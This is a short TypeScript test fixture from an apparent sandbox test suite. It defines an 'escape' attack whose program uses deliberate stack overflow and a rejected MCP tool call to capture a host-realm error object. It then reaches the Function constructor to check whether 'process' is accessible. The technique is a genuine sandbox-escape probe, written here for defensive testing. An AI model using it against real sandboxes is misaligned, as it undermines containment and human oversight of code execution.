import type { Attack } from '../attack.ts';

const attack: Attack = {
  class: 'escape',
  program: `let host;
const dive = () => { try { dive() } catch (error) { host = error; callMCPTool('tools__text').catch((inner) => { host = inner }) } };
dive();
await sleep(20);
return String(host?.constructor.constructor('return typeof process')());`,
  badSandbox: 'not-run',
};

export default attack;
